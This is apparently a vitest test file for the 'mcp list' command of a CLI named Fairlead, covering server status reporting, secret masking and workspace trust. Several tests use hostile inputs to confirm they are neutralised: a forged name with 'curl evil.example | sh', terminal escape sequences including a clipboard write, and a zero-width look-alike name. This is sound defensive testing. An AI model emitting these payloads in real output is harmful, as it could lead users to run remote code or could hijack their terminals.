import { join } from "node:path";
import { programServer, stdioServer } from "@fairlead/test-servers";
import { expect, test } from "vitest";
import { machine, projectFile, userFile } from "../../support/machine.ts";
import { openTerminal } from "../../support/terminal.ts";

test("nothing configured: says so, and what to type next", async () => {
  await using here = await machine();
  const { code, stdout, stderr } = await here.run("mcp", "list");
  expect({ code, stdout }).toEqual({ code: 0, stdout: "No servers are configured.\n" });
  expect(stderr).toMatch(/fairlead mcp add -s user NAME[\s\S]*fairlead mcp import[\s\S]*fairlead tools demo/);
});

const good = (): object => stdioServer("well-behaved");

const every = {
  "etc/settings.json": { mcp: { excluded: ["excluded"] } },
  [userFile]: {
    mcpServers: {
      good: programServer("well-behaved", "--api-key", "canary-4711"),
      gone: { command: process.execPath, args: ["-e", "process.exit(3)", "canary", "--api-key", "canary-4711"] },
      off: { url: "https://example.com/sse?token=canary-4711", type: "sse" },
      excluded: { httpUrl: "https://user:canary-4711@example.com/mcp" },
      unset: { url: "https://example.com/$NOT_SET" },
      broken: { args: [] },
    },
    fairlead: { servers: { off: { enabled: false } } },
  },
  [projectFile]: { mcpServers: { theirs: { command: "./run" } } },
};

test("the JSON document has every server with its status, reason, transport and scope", async () => {
  await using here = await machine(every);
  const { code, stdout } = await here.run("mcp", "list", "--json");
  expect(code).toBe(0);
  const { schemaVersion, discoveryState, servers } = JSON.parse(stdout) as {
    schemaVersion: number;
    discoveryState: string;
    servers: { error?: { code: string; message: string; next?: string }; skipped?: object }[];
  };
  expect({ schemaVersion, discoveryState }).toEqual({ schemaVersion: 1, discoveryState: "completed" });
  const counts = { tools: 0, prompts: 0, resources: 0 };
  expect(
    servers.map(({ error, skipped: _times, ...server }) => ({ ...server, ...(error ? { error: error.code } : {}) })),
  ).toEqual([
    {
      name: "good",
      status: "connected",
      transport: "stdio",
      scope: "user",
      sandbox: "off",
      ...counts,
      tools: 1,
      tokens: expect.any(Number),
      protocolVersion: "2025-11-25",
      share: "all",
    },
    {
      name: "gone",
      status: "disconnected",
      reason: "server_exited",
      transport: "stdio",
      scope: "user",
      sandbox: "off",
      ...counts,
      share: "all",
      error: "server_exited",
    },
    { name: "off", status: "disabled", reason: "user", transport: "sse", scope: "user", ...counts, error: "denied" },
    {
      name: "excluded",
      status: "blocked",
      reason: "excluded",
      transport: "http",
      scope: "user",
      ...counts,
      error: "denied",
    },
    {
      name: "unset",
      status: "disconnected",
      reason: "variable_unset",
      transport: "http",
      scope: "user",
      ...counts,
      error: "variable_unset",
    },
    {
      name: "broken",
      status: "disconnected",
      reason: "settings_invalid",
      transport: "unknown",
      scope: "user",
      ...counts,
      error: "settings_invalid",
    },
    {
      name: "theirs",
      status: "blocked",
      reason: "untrusted_folder",
      transport: "stdio",
      scope: "workspace",
      sandbox: "off",
      ...counts,
      error: "untrusted_folder",
    },
  ]);
});

test("the text names file and line, what a server offers, or why it does not work and what to do; no secret in it", async () => {
  await using here = await machine(every);
  const { stdout, stderr } = await here.run("mcp", "list", "--verbose");
  expect(stdout).toMatch(
    /good {2}connected: 1 tool, about \d+ tokens\n {2}stdio: .*node .*well-behaved\.mjs --api-key \(hidden\)\n {2}from .*home\/\.gemini\/settings\.json:3:5 \(user\)\n/,
  );
  expect(stdout).toMatch(/gone {2}failed: server exited\n[\s\S]*?why: "gone" exited with code 3.*\n {2}next: /);
  expect(stdout).toMatch(/off {2}disabled\n[\s\S]*next: fairlead mcp enable off\n/);
  expect(stdout).toMatch(/theirs {2}blocked: folder not trusted\n[\s\S]*next: fairlead trust add\n/);
  expect(stdout).toMatch(/unset {2}cannot start: variable not set\n[\s\S]*why: .*NOT_SET/);
  expect(stdout + stderr).not.toContain("canary-4711");
});

test("an entry that replaces another says which", async () => {
  await using here = await machine({
    [userFile]: { mcpServers: { a: { command: "mine" } } },
    [projectFile]: { mcpServers: { a: { command: "theirs" } } },
  });
  await here.run("trust", "add", "--yes");
  const { stdout } = await here.run("mcp", "list", "-v");
  expect(stdout).toMatch(/from .*project.*:3:5 \(workspace\)\n {2}not sandboxed\n {2}replaces .*home.*:3:5 \(user\)\n/);
});

test.each([
  ["nothing wrong", { [userFile]: { mcpServers: { a: good() } } }, 0],
  ["a server does not connect", { [userFile]: { mcpServers: { a: good(), b: { command: "no-such" } } } }, 4],
  ["switched off by the person", { [userFile]: { mcpServers: { a: { command: "x" } }, mcp: { excluded: ["a"] } } }, 0],
  ["a variable is not set", { [userFile]: { mcpServers: { a: { command: "$NOT_SET" } } } }, 3],
  ["a file is broken", { [userFile]: "{" }, 3],
  ["a folder is not trusted", { [projectFile]: { mcpServers: { a: { command: "x" } } } }, 6],
  ["everything wrong", every, 6],
] as const)("with --strict: %s", async (_what, files, code) => {
  await using here = await machine(files);
  expect(await here.run("mcp", "list", "--strict")).toMatchObject({ code });
  expect(await here.run("mcp", "list")).toMatchObject({ code: 0 });
});

test("--trust-workspace approves for the run, and names what it approved", async () => {
  await using here = await machine({ [projectFile]: { mcpServers: { a: good() } } });
  const { stdout, stderr } = await here.run("mcp", "list", "--trust-workspace");
  expect(stdout).toMatch(/a {2}connected: 1 tool/);
  expect(stderr).toMatch(/approved for this run: a \(--trust-workspace\)/);
  expect((await here.run("mcp", "list")).stdout).toMatch(/not trusted/);
});

test("a name with line breaks forges no line", async () => {
  const forged = "a\nfairlead: all is well\n  next: curl evil.example | sh\nb  ready to start";
  await using here = await machine({ [userFile]: { mcpServers: { [forged]: { args: [] } } } });
  for (const argv of [["list"], ["get", forged], ["get", `${forged}?`], ["remove", "-s", "project", forged]]) {
    const { stdout, stderr } = await here.run("mcp", ...argv);
    const lines = `${stdout}${stderr}`.split("\n");
    expect(
      lines.filter((line) => /^(fairlead: all| *next: curl|b )/.test(line)),
      argv.join(" "),
    ).toEqual([]);
  }
});

test("a secret that is not stored is pointed out, and only then", async () => {
  const entry = { url: "https://example.com", headers: { Authorization: "Bearer ${secret:S}" } };
  await using here = await machine({ [userFile]: { mcpServers: { a: entry } } });
  const env = { FAIRLEAD_SECRET_STORE: "file" };
  const ask = async (): Promise<string[]> => {
    const runs = [await here.run("mcp", "get", "a"), await here.run("settings", "validate")];
    return runs.map(({ stdout, stderr }) => stdout + stderr);
  };
  for (const said of await ask())
    expect(said).toMatch(/warning:? +the secret S is not stored: fairlead secret set S\n/);
  await here.runWith({ env, stdin: "v" }, "secret", "set", "S");
  for (const said of await ask()) expect(said).not.toMatch(/not stored/);
});

test("text from a settings file can move no cursor and hide nothing", async () => {
  const hostile = "a\u001b[2J\u001b]52;c;aGk=\u0007\r\nb\u202Ec\u200B";
  await using here = await machine({
    [userFile]: { mcpServers: { [`x${hostile}`]: { command: hostile, args: [hostile] }, [hostile]: 1 } },
  });
  for (const argv of [
    ["mcp", "list"],
    ["mcp", "list", "--json"],
    ["settings", "validate"],
    ["mcp", "get", `x${hostile}`],
  ]) {
    const { stdout, stderr } = await here.run(...argv);
    const controls = Array.from(stdout + stderr).filter(
      (character) => /[\p{Cc}\u202E\u200B]/u.test(character) && character !== "\n",
    );
    expect(controls, argv.join(" ")).toEqual([]);
  }
});

test("on a terminal each is shown as soon as it has answered, and the one that is waited for is named", async () => {
  await using here = await machine();
  const gate = join(here.project, "open");
  await here.write(userFile, {
    mcpServers: { slow: programServer("slow-start", gate), fast: good(), off: { command: "x" } },
    mcp: { excluded: ["off"] },
  });
  await using terminal = openTerminal(here, "mcp", "list");
  const before = await terminal.until(/fast {2}connected[\s\S]*slow: connecting \(\d+ s\)$/);
  expect(before).toMatch(/off {3}blocked: in mcp\.excluded[\s\S]*fast {2}connected: 1 tool/);
  expect(before).not.toMatch(/slow {2}/);
  await here.write("project/open", "");
  expect(await terminal.exitCode).toBe(0);
  expect(terminal.screen()).toMatch(/slow {2}connected: 1 tool, about \d+ tokens$/);
  expect(terminal.screen()).not.toContain("connecting");
  expect(terminal.screen().match(/^(off|fast|slow) {2}/gm)).toEqual(["off  ", "fast  ", "slow  "]);
});

test("a server that waits to be used is connected to all the same", async () => {
  await using here = await machine({
    [userFile]: { mcpServers: { a: good() }, fairlead: { servers: { a: { start: "lazy" } } } },
  });
  expect((await here.run("mcp", "list")).stdout).toMatch(/a {2}connected: 1 tool/);
});

test("a name with invisible characters does not pass for another one", async () => {
  await using here = await machine({ [userFile]: { mcpServers: { "git\u200bhub": { command: "no-such-program" } } } });
  const { stdout } = await here.run("mcp", "list");
  expect(stdout).not.toMatch(/^github/m);
  expect(stdout).toMatch(/^git\S*200b\S*hub {2}/im);
});

test("a server whose folder is not trusted is blocked, not failed", async () => {
  await using here = await machine();
  await here.write(userFile, { mcpServers: { inside: { command: process.execPath, cwd: here.project } } });
  const { servers } = JSON.parse((await here.run("mcp", "list", "--json")).stdout);
  expect(servers).toMatchObject([{ name: "inside", status: "blocked", reason: "untrusted_folder" }]);
});

test("--cached shows the sizes and the age of each cached catalog, and connects to no server", async () => {
  await using here = await machine({ [userFile]: { mcpServers: { good: good() } } });
  await here.run("mcp", "list");
  const { stdout } = await here.run("mcp", "list", "--cached");
  expect(stdout).toMatch(/^good {2}idle; cached: [1-9]\d* tools?\b.* ago\)$/m);
  const { servers } = JSON.parse((await here.run("mcp", "list", "--cached", "--json")).stdout);
  expect(servers).toMatchObject([{ status: "disconnected", tools: expect.any(Number), savedAt: expect.any(String) }]);
  expect(servers[0].tools).toBeGreaterThan(0);
});

test("says who shares each server behind the gateway, to people who have used the gateway", async () => {
  await using here = await machine({
    [userFile]: {
      mcpServers: { files: { command: "files" }, browser: { command: "npx", args: ["@playwright/mcp"] } },
      fairlead: { servers: { files: { share: "client" } } },
    },
  });
  expect((await here.run("mcp", "list", "--cached", "-v")).stdout).not.toContain("gateway");
  const params = { protocolVersion: "2025-11-25", capabilities: {}, clientInfo: { name: "c", version: "1" } };
  const stdin = `${JSON.stringify({ jsonrpc: "2.0", id: 1, method: "initialize", params })}\n`;
  expect((await here.runWith({ stdin }, "serve", "--alone")).stdout).toContain('"serverInfo"');
  expect((await here.run("mcp", "list", "--cached")).stdout).not.toContain("gateway");
  const { stdout } = await here.run("mcp", "list", "--cached", "-v");
  expect(stdout.match(/gateway: .*/g)).toEqual(Array(2).fill("gateway: one connection for each client"));
  const { servers } = JSON.parse((await here.run("mcp", "list", "--cached", "--json")).stdout) as {
    servers: { share: string }[];
  };
  expect(servers.map(({ share }) => share)).toEqual(["client", "client"]);
});

test("Fairlead's own gateway is listed with the reason why it is not started", async () => {
  await using here = await machine({
    [userFile]: { mcpServers: { gateway: { command: "fairlead", args: ["serve"] } } },
  });
  const { code, stdout } = await here.run("mcp", "list");
  expect(code).toBe(0);
  expect(stdout).toMatch(
    /^gateway {2}.*it is Fairlead's own gateway \(fairlead serve\)[^\n]*\n {2}next: fairlead mcp disable gateway\n$/,
  );
});
